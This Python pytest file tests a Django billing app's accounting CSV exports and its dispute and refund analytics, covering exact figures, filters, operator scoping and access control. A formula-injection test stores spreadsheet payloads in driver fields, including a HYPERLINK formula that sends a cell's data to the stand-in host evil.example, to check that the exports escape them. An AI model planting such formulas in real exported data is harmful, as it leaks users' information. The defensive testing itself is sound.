"""Accounting CSVs (sessions, invoices with credit notes, payments) and the disputes and refunds rates of the
analytics page: exact figures, the date and location filters, and another operator's rows never included."""
import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from billing_app import invoicing
from billing_app.models import Payment, Refund
from billing_app.reporting import analytics
from billing_app.reporting import exports as accounting_exports
from disputes_app import services as dispute_services
from tests import factories
from tests.billing_app.invoice_fixtures import account, charged_session

D = Decimal
T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
RANGE = {"start": "2026-03-01", "end": "2026-03-31"}
pytestmark = pytest.mark.usefixtures("no_delivery")


def _paid(charge, *, captured, refunded="0", refund_rows=()):
    session = charge.session
    payment = Payment.objects.create(
        operator=session.operator, driver=session.driver, session=session, kind=Payment.Kind.SESSION_HOLD,
        status=Payment.Status.CAPTURED, currency=charge.currency, amount_requested=D("50.00"),
        amount_authorized=D("50.00"), amount_captured=D(captured), amount_refunded=D(refunded),
        idempotency_key=f"hold-{session.pk}", stripe_payment_intent_id=f"pi_{session.pk}", settled_at=T0)
    Payment.objects.filter(pk=payment.pk).update(created_at=session.started_at)  # auto_now_add: set as it was
    for amount in refund_rows:
        refund = Refund.objects.create(payment=payment, amount=D(amount), reason="dispute",
                                       status=Refund.Status.SUCCEEDED, idempotency_key=f"refund-{payment.pk}-{amount}")
        Refund.objects.filter(pk=refund.pk).update(created_at=T0 + timedelta(days=3))
    return payment


@pytest.fixture
def books(operator, other_operator, connector, driver):
    """Two receipts (10 kWh 4.64, 20 kWh 9.28 EUR incl. 19 % VAT), a 2.00 credit note on the second, their
    captured payments with the 2.00 refunded; and another operator's GBP receipt, payment and dispute."""
    account(driver)
    first = charged_session(connector=connector, driver=driver, started_at=T0, energy_kwh="10")
    second = charged_session(connector=connector, driver=driver, started_at=T0 + timedelta(days=1),
                             energy_kwh="20")
    receipts = [invoicing.receipt_issue_for_session(session_id=c.session_id, now=T0 + timedelta(days=2))
                for c in (first, second)]
    invoicing.credit_note_issue(invoice_id=receipts[1].pk, reason="charger over-reported",
                                amount_incl_vat=D("2.00"), now=T0 + timedelta(days=3))
    _paid(first, captured="4.64")
    _paid(second, captured="9.28", refunded="2.00", refund_rows=["2.00"])
    dispute_services.ticket_open(by=driver, session=second.session, reason="wrong_amount",
                                 description="9 kWh, not 20", now=T0 + timedelta(days=3))

    foreign_connector = factories.ConnectorFactory(station__location__operator=other_operator)
    foreign_driver = factories.DriverFactory(operator=other_operator)
    account(foreign_driver)
    foreign = charged_session(connector=foreign_connector, driver=foreign_driver, started_at=T0, energy_kwh="99",
                              currency="GBP")
    invoicing.receipt_issue_for_session(session_id=foreign.session_id, now=T0 + timedelta(days=2))
    _paid(foreign, captured="46.33", refunded="46.33", refund_rows=["46.33"])
    dispute_services.ticket_open(by=foreign_driver, session=foreign.session, reason="wrong_amount",
                                 description="not me", now=T0 + timedelta(days=3))
    return receipts


@pytest.fixture
def staff(operator):
    return factories.OperatorStaffFactory(operator=operator)


def _csv(client, export, **params):
    query = {**RANGE, **params}
    response = client.get(reverse(f"admin_analytics_{export}_csv"), query)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"] == f'attachment; filename="{export}-{query["start"]}-{query["end"]}.csv"'
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_invoice_csv_lists_receipts_and_credit_notes_of_own_operator_only(client, books, staff):
    client.force_login(staff)
    rows = _csv(client, "invoices")
    assert [(r["document"], r["number"], r["credits_invoice"], r["total_excl_vat"], r["total_vat"],
             r["total_incl_vat"]) for r in rows] == [
        ("invoice", books[0].number, "", "3.90", "0.74", "4.64"),
        ("invoice", books[1].number, "", "7.80", "1.48", "9.28"),
        ("credit_note", rows[2]["number"], books[1].number, "-1.68", "-0.32", "-2.00"),
    ]
    assert sum(D(r["total_incl_vat"]) for r in rows) == D("11.92")  # net invoiced: 4.64 + 9.28 - 2.00
    assert {r["currency"] for r in rows} == {"EUR"}


def test_payment_csv_shows_captured_and_refunded_of_own_operator_only(client, books, staff):
    client.force_login(staff)
    rows = _csv(client, "payments")
    assert [(r["status"], r["currency"], r["amount_captured"], r["amount_refunded"]) for r in rows] == [
        ("captured", "EUR", "4.64", "0.00"), ("captured", "EUR", "9.28", "2.00")]


def test_exports_follow_the_date_range(client, books, staff):
    client.force_login(staff)
    assert _csv(client, "sessions", start="2026-03-04", end="2026-03-31") == []
    april = client.get(reverse("admin_analytics_invoices_csv"), {"start": "2026-04-01", "end": "2026-04-30"})
    assert list(csv.reader(io.StringIO(b"".join(april.streaming_content).decode()))) == [
        accounting_exports.INVOICE_COLUMNS]


def test_exports_follow_the_location_filter(client, books, staff, operator):
    client.force_login(staff)
    elsewhere = factories.LocationFactory(operator=operator)
    for export in ("sessions", "invoices", "payments"):
        assert _csv(client, export, location=elsewhere.pk) == []
    here = books[0].session.connector.station.location
    assert len(_csv(client, "invoices", location=here.pk)) == 3


def test_another_operators_location_is_a_form_error_not_a_leak(client, books, staff, other_operator):
    client.force_login(staff)
    foreign = factories.LocationFactory(operator=other_operator)
    response = client.get(reverse("admin_analytics_payments_csv"), {**RANGE, "location": foreign.pk})
    assert response.status_code == 400 and b"GBP" not in response.content


@pytest.mark.parametrize("who", ["anonymous", "driver"])
@pytest.mark.parametrize("export", ["invoices", "payments"])
def test_strangers_and_drivers_get_no_accounting_exports(client, driver, who, export):
    if who == "driver":
        client.force_login(driver)
    assert client.get(reverse(f"admin_analytics_{export}_csv"), RANGE).status_code in (302, 403)


def test_disputes_and_refund_rates_are_exact_and_scoped(books, staff):
    figures = analytics.disputes_and_refunds(staff, analytics.Filters(start=date(2026, 3, 1), end=date(2026, 3, 31)))
    assert (figures["sessions"], figures["opened"], figures["chargebacks"]) == (2, 1, 0)
    assert figures["dispute_rate"] == D("50.00")
    assert figures["money"] == [{"currency": "EUR", "captured": D("13.92"), "refunded": D("2.00"), "refunds": 1,
                                 "refund_rate": D("14.4")}]


def test_analytics_page_shows_the_rates(client, books, staff):
    client.force_login(staff)
    response = client.get(reverse("admin_analytics"), RANGE)
    page = response.content.decode()
    assert response.status_code == 200 and 'id="disputes-refunds"' in page
    assert "50.00 per 100 sessions" in page and "14.4%" in page and "GBP" not in page


def test_no_sessions_means_no_rate_rather_than_a_division_error(staff):
    today = timezone.localdate()
    figures = analytics.disputes_and_refunds(staff, analytics.Filters(start=today, end=today))
    assert figures["dispute_rate"] is None and figures["money"] == []


def test_driver_text_never_starts_a_spreadsheet_formula_and_amounts_stay_numbers(client, operator, staff):
    """Names, usernames, token ids and station identities come from drivers and chargers: a cell that would
    start a formula (= + - @, tab, CR) is led by an apostrophe; amounts, negative ones included, are not."""
    driver = factories.DriverFactory(operator=operator, username="@SUM(1+1)")
    driver.driver_profile.full_name = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
    driver.driver_profile.company_vat_id = "+49 30 1234"
    driver.driver_profile.save()
    account(driver)
    station_connector = factories.ConnectorFactory(station__location__operator=operator,
                                                   station__ocpp_identity="-2+3")
    charge = charged_session(connector=station_connector, driver=driver, started_at=T0, energy_kwh="10")
    token = factories.IdTokenFactory(operator=operator, driver=driver, uid="\tcmd")
    charge.session.id_token = token
    charge.session.save(update_fields=["id_token"])
    receipt = invoicing.receipt_issue_for_session(session_id=charge.session_id, now=T0 + timedelta(days=1))
    invoicing.credit_note_issue(invoice_id=receipt.pk, reason="x", amount_incl_vat=D("2.00"),
                                now=T0 + timedelta(days=2))
    client.force_login(staff)

    session = _csv(client, "sessions")[0]
    assert (session["driver"], session["station"], session["token"]) == ("'@SUM(1+1)", "'-2+3", "'\tcmd")
    assert (session["session_id"], session["energy_kwh"], session["total_incl_vat"]) == (
        str(charge.session_id), "10.000", "4.64")
    invoice, note = _csv(client, "invoices")
    assert invoice["buyer_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")'
    assert (invoice["buyer_vat_id"], invoice["driver"]) == ("'+49 30 1234", "'@SUM(1+1)")
    assert (note["total_excl_vat"], note["total_vat"], note["total_incl_vat"]) == ("-1.68", "-0.32", "-2.00")
    assert _csv(client, "payments") == []


def test_spreadsheet_safe_leads_only_formula_text_with_an_apostrophe():
    safe = accounting_exports.spreadsheet_safe
    assert [safe(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "Anna", "", "a=b")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "Anna", "", "a=b"]
    assert safe(D("-5.00")) == D("-5.00") and safe(-3) == -3
